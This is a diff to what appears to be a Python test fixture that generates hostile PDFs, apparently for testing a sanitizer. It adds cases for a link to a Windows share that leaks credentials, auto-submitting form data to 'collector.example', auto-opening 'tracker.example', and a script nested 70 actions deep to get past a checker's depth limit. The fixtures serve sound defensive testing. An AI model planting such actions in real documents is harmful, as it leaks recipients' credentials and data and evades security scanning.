@@ -8,7 +8,8 @@ import os
 
 import pikepdf
 
-HOSTILE = ("javascript", "names_javascript", "link_javascript", "form_script", "launch", "embedded", "xfa")
+HOSTILE = ("javascript", "names_javascript", "link_javascript", "form_script", "launch", "embedded", "xfa",
+           "remote_file", "submit_form", "open_web_address")
 
 
 def pdf_bytes(dangerous: str | None = None, *, text: str = "Signed by both parties", pages: int = 1,
@@ -51,6 +52,21 @@ def pdf_bytes(dangerous: str | None = None, *, text: str = "Signed by both parti
     elif dangerous == "xfa":
         pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(),
                                                XFA=pdf.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>"))
+    elif dangerous == "remote_file":  # a link to a file on another machine (a Windows share leaks credentials)
+        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 20],
+                                  A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String(r"\\host\share\x.pdf"),
+                                                       D=pikepdf.Array([0, pikepdf.Name.Fit])))
+        page.Annots = pdf.make_indirect(pikepdf.Array([link]))
+    elif dangerous == "submit_form":
+        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm,
+                                                 F=pikepdf.String("https://collector.example/"))
+    elif dangerous == "open_web_address":  # the document opens a web address by itself
+        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/"))
+    elif dangerous == "deep_chain":  # a script at the end of a chain of actions nested past any checker's depth
+        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(5)"))
+        for _ in range(70):
+            action = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]), Next=action)
+        pdf.Root.OpenAction = action
     elif dangerous is not None:
         raise ValueError(dangerous)
     out = io.BytesIO()
